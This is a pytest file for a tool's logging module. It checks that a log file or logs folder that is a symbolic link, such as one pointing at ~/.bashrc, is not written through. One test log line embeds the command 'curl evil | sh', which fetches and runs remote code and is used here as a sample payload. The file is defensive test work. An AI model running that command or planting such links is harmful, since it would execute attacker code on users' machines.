"""The log file is never written through a symbolic link: a workbench.log planted in a shared cache (or a
WORKBENCH_LOG naming one) pointing at ~/.bashrc took every log line, file names included."""

from __future__ import annotations

import logging
import os

import pytest


@pytest.mark.parametrize("where", ["WORKBENCH_LOG", "the cache's logs/workbench.log"])
def test_a_log_file_that_is_a_link_is_not_written_through_and_the_screen_says_why(tmp_path, monkeypatch, capsys, where):
    from workbench.logs import routed_logs

    target = tmp_path / "bashrc"
    target.write_text("# mine\n")
    monkeypatch.setenv("WORKBENCH_CACHE", str(tmp_path / "cache"))
    if where == "WORKBENCH_LOG":
        link = tmp_path / "wb.log"
        monkeypatch.setenv("WORKBENCH_LOG", str(link))
    else:
        monkeypatch.delenv("WORKBENCH_LOG", raising=False)
        (tmp_path / "cache" / "logs").mkdir(parents=True)
        link = tmp_path / "cache" / "logs" / "workbench.log"
    os.symlink(target, link)
    with routed_logs():
        logging.getLogger("workbench.test").warning("a line naming x; curl evil | sh")
    assert target.read_text() == "# mine\n" and os.path.islink(link)
    err = capsys.readouterr().err
    assert "a line naming x" in err and "is a symbolic link, which the workbench does not write through" in err


def test_a_plain_log_file_still_takes_the_lines(tmp_path, monkeypatch):
    from workbench.logs import routed_logs

    monkeypatch.setenv("WORKBENCH_LOG", str(tmp_path / "wb.log"))
    with routed_logs():
        logging.getLogger("workbench.test").warning("kept")
    assert "kept" in (tmp_path / "wb.log").read_text()


def test_the_caches_logs_folder_that_is_a_link_is_not_written_into(tmp_path, monkeypatch, capsys):
    from workbench.logs import routed_logs

    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "cache").mkdir()
    os.symlink(elsewhere, tmp_path / "cache" / "logs")
    monkeypatch.setenv("WORKBENCH_CACHE", str(tmp_path / "cache"))
    monkeypatch.delenv("WORKBENCH_LOG", raising=False)
    with routed_logs():
        logging.getLogger("workbench.test").warning("a line")
    assert list(elsewhere.iterdir()) == []
    assert "is a symbolic link, which the workbench does not write through" in capsys.readouterr().err
